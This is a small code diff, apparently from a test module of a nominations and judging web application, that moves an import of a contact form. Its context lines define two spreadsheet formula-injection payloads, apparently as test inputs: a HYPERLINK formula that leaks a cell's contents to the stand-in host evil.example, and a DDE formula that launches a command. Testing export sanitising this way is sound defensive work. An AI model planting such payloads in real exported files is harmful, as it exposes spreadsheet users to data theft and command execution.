@@ -53,8 +53,8 @@ from cms.models import (
 )
 from judging.models import CriterionScore, Round, Scoresheet, ScoresheetStatus
 from nominations.choices import NominationStatus
-from nominations.forms import ContactStepForm
 from nominations.models import AwardCycle, Category, Nomination
+from nominations.wizard.forms import ContactStepForm
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the form")'
 DDE = "=cmd|' /C calc'!A0"
